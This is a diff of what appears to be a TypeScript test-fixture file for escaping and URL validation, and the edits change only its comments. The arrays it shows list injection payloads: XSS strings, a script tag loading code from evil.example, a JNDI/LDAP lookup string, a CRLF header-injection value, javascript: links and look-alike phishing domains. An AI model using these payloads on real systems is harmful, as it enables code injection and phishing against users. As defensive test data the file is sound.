@@ -1,4 +1,4 @@
-/** Texts that become code where somebody forgets that they are text. */
+/** Texts that become code where escaping is forgotten. */
 export const texts = [
   '<script>alert(1)</script>',
   '<ScRiPt src=//evil.example/x.js>',
@@ -79,7 +79,7 @@ export const texts = [
   '$' + '{jndi:ldap://evil.example/a}',
 ]
 
-/** Those of the texts that look otherwise as a name: in one line, without what cannot be seen. */
+/** Texts that change when used as a name: they become one line without invisible characters. */
 export const asNames: Record<string, string> = {
   'a\r\nSet-Cookie: a=b\r\n\r\n<x>': 'a Set-Cookie: a=b <x>',
   'line one\nline two\ttab': 'line one line two tab',
@@ -89,7 +89,7 @@ export const asNames: Record<string, string> = {
   '\u0007bell\u001b[31mred': 'bell[31mred',
 }
 
-/** Addresses that lead elsewhere than they say, or run something. */
+/** URLs that hide their target or run code. */
 export const badLinks = [
   'javascript:alert(1)',
   'JaVaScRiPt:alert(1)',
@@ -136,7 +136,7 @@ export const badLinks = [
   '"><img src=x onerror=alert(1)>',
 ]
 
-/** Pages that only look like those of the network. */
+/** URLs that only resemble pages of the network. */
 export const lookAlikes: Record<string, string[]> = {
   instagram: [
     'https://instagram.com.evil.example/a',
